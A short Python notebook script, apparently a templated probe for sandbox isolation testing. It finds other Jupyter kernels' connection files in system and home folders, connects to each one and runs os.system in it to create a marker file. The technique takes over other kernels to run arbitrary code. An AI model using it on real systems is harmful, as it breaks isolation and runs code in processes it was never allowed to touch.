"""Looks for the keys and sockets of other kernels, and runs a cell in each that answers.

Only inside the walls: it could harm the machine.
"""

# %%
from pathlib import Path

from jupyter_client import BlockingKernelClient

for folder in ("/tmp", "/run", "{home}/.local/share/jupyter/runtime", "/root/.local/share/jupyter"):
    for path in Path(folder).glob("**/kernel*.json"):
        if path == Path(get_ipython().kernel.parent.abs_connection_file):
            continue
        client = BlockingKernelClient(connection_file=str(path))
        client.load_connection_file()
        client.start_channels()
        client.execute("import os; os.system('touch /tmp/{marker}')")
        print(path, client.get_shell_msg(timeout=1), "{marker}"[::-1])
